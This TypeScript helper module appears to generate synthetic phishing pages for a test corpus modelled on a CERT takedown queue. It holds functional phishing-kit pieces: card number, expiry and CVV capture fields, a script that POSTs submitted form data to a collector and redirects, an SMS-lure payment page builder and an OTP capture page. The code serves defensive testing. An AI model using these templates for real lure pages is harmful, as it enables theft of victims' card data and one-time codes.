import type { Route } from '../../corpus/corpus.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { apk, cfb, fileRoute, jsonRoute, jsRoute, cssRoute, lnk, pe, png, pngRoute, zip } from './e-bin.js';

/**
 * Furniture for the `u-` pages (one month of an APAC / LATAM CERT takedown queue). Helpers only, no pages.
 */

export { htmlRoute, redirectRoute, apk, cfb, fileRoute, jsonRoute, jsRoute, cssRoute, lnk, pe, png, pngRoute, zip };

/** A whole HTML document. */
export function doc(o: { lang: string; title: string; head?: string; css?: string; body: string; bodyAttrs?: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1, maximum-scale=1">
<title>${o.title}</title>
${o.css ? `<style>${o.css}</style>` : ''}
${o.head ?? ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** Inline gtag bootstrap as sites paste it; the loader itself is not fetched. */
export const gtag = (id: string): string => `<script>
window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}
gtag('js',new Date());gtag('config','${id}');
</script>`;

/** Meta pixel bootstrap without the network half. */
export const fbq = (id: string): string => `<script>
!function(f){if(f.fbq)return;var n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};n.queue=[];n.loaded=!0;n.version='2.0'}(window);
fbq('init','${id}');fbq('track','PageView');
</script>`;

/** Common sober corporate stylesheet, parametrised by brand colour. */
export const corpCss = (brand: string, accent = '#222'): string => `
*{box-sizing:border-box}body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,"Helvetica Neue",Arial,"Noto Sans",sans-serif;color:#222;background:#f4f5f7;font-size:15px;line-height:1.55}
a{color:${brand}}header.top{background:${brand};color:#fff}header.top .in{max-width:1120px;margin:0 auto;display:flex;align-items:center;gap:24px;padding:12px 20px}
header.top a{color:#fff;text-decoration:none;font-size:14px}header.top .logo{font-weight:700;font-size:20px;letter-spacing:.3px}
header.top nav{display:flex;gap:18px;flex:1}main{max-width:1120px;margin:0 auto;padding:28px 20px}
.card{background:#fff;border-radius:8px;box-shadow:0 1px 3px rgba(0,0,0,.12);padding:24px;margin-bottom:20px}
.grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(240px,1fr));gap:18px}
label{display:block;font-size:13px;color:#555;margin:12px 0 4px}input,select{width:100%;padding:10px 12px;border:1px solid #c8ccd2;border-radius:5px;font-size:15px}
button,.btn{display:inline-block;background:${accent};color:#fff;border:0;border-radius:5px;padding:11px 22px;font-size:15px;cursor:pointer;text-decoration:none}
table{border-collapse:collapse;width:100%}td,th{border-bottom:1px solid #e3e5e8;padding:8px 6px;text-align:left;font-size:14px}
footer.foot{background:#2b2f36;color:#aab;font-size:12.5px;padding:28px 20px;margin-top:40px}footer.foot .in{max-width:1120px;margin:0 auto}footer.foot a{color:#cdd;margin-right:14px}
.muted{color:#777;font-size:13px}.note{background:#fff8e1;border-left:4px solid #f0b400;padding:12px 16px;font-size:14px}
.alert{background:#fdecea;border-left:4px solid #d93025;padding:12px 16px;font-size:14px}
`;

/** Header + footer shell. */
export function shell(o: { brand: string; logo: string; nav: string[]; footer: string; links?: string[]; right?: string }): (main: string) => string {
  return (main) => `<header class="top"><div class="in"><a class="logo" href="/">${o.logo}</a><nav>${o.nav.map((n) => `<a href="#">${n}</a>`).join('')}</nav>${o.right ?? ''}</div></header>
<main>${main}</main>
<footer class="foot"><div class="in"><p>${(o.links ?? []).map((l) => `<a href="#">${l}</a>`).join('')}</p><p>${o.footer}</p></div></footer>`;
}

/** Mobile-first kit stylesheet (SMS-delivered pages are opened on phones). */
export const mobileCss = (brand: string): string => `
*{box-sizing:border-box}body{margin:0;background:#f2f2f2;font-family:"Helvetica Neue",Arial,"PingFang SC","Hiragino Sans","Noto Sans",sans-serif;font-size:15px;color:#333}
.bar{background:${brand};color:#fff;padding:14px 16px;font-weight:bold;font-size:17px;display:flex;align-items:center;gap:10px}.bar img{width:28px;height:28px;border-radius:4px}
.wrap{max-width:460px;margin:0 auto;padding:16px}.box{background:#fff;border-radius:10px;padding:18px;margin-bottom:14px}
.box h2{font-size:17px;margin:0 0 10px}.row{display:flex;justify-content:space-between;padding:6px 0;border-bottom:1px dashed #ddd;font-size:14px}
label{display:block;font-size:13px;margin:12px 0 5px;color:#555}input,select{width:100%;padding:12px;border:1px solid #ccc;border-radius:6px;font-size:16px}
.half{display:flex;gap:10px}.half>div{flex:1}button{width:100%;margin-top:18px;padding:14px;border:0;border-radius:8px;background:${brand};color:#fff;font-size:16px;font-weight:bold}
.tip{font-size:12px;color:#888;margin-top:12px;line-height:1.5}.red{color:#d0021b}.center{text-align:center}
.ft{font-size:11px;color:#999;text-align:center;padding:18px 10px}
`;

/** A card-capture block (number / expiry / CVV / name) labelled in the kit's language. */
export function cardFields(l: { name: string; number: string; exp: string; cvv: string }, action = ''): string {
  return `<label>${l.name}</label><input name="holder" autocomplete="cc-name" required>
<label>${l.number}</label><input name="cc" inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000" autocomplete="cc-number" required>
<div class="half"><div><label>${l.exp}</label><input name="exp" placeholder="MM/YY" maxlength="5" required></div><div><label>${l.cvv}</label><input name="cvv" inputmode="numeric" maxlength="4" required></div></div>${action}`;
}

/** The step script kits use: serialise the form, POST it to a collector, then show the next step. */
export function stepScript(collector: string, next: string, opts: { formId?: string; delay?: number; extra?: string } = {}): string {
  return `<script>
(function(){var f=document.getElementById('${opts.formId ?? 'f'}');if(!f)return;
f.addEventListener('submit',function(e){e.preventDefault();var d={};new FormData(f).forEach(function(v,k){d[k]=v});
d.ua=navigator.userAgent;d.t=Date.now();${opts.extra ?? ''}
var b=f.querySelector('button');if(b){b.disabled=true;b.innerHTML='...';}
fetch('${collector}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).catch(function(){}).finally(function(){setTimeout(function(){location.href='${next}'},${opts.delay ?? 1200})});
});})();
</script>`;
}

/** A collector endpoint answering ok. */
export const okJson = (): Route => jsonRoute({ ok: true, status: 1 });

export const img = pngRoute;

/**
 * A phone-first payment kit page as SMS lures link to: bar, notice box, optional detail rows, a form and
 * a step script. Returns the document; `collector` and `next` are paths served by the page's routes.
 */
export function mobileKit(o: {
  lang: string; title: string; brand: string; color: string; logo?: string; notice: string; rows?: [string, string][];
  form: string; button: string; collector: string; next: string; footer: string; extraCss?: string; head?: string;
}): string {
  return doc({
    lang: o.lang,
    title: o.title,
    css: mobileCss(o.color) + (o.extraCss ?? ''),
    head: o.head,
    body: `<div class="bar">${o.logo ? `<img src="${o.logo}" alt="">` : ''}${o.brand}</div>
<div class="wrap">
<div class="box">${o.notice}${o.rows ? o.rows.map(([k, v]) => `<div class="row"><span>${k}</span><b>${v}</b></div>`).join('') : ''}</div>
<form id="f" class="box">${o.form}<button>${o.button}</button></form>
</div>
<div class="ft">${o.footer}</div>
${stepScript(o.collector, o.next)}`,
  });
}

/** The follow-up page most kits show after the card step: an OTP box. */
export function otpPage(lang: string, brand: string, color: string, heading: string, text: string, button: string, action: string): string {
  return doc({ lang, title: brand, css: mobileCss(color), body: `<div class="bar">${brand}</div><div class="wrap"><form class="box" method="post" action="${action}"><h2>${heading}</h2><p style="font-size:14px">${text}</p><input name="otp" maxlength="8" inputmode="numeric" autocomplete="one-time-code"><button>${button}</button></form></div>` });
}
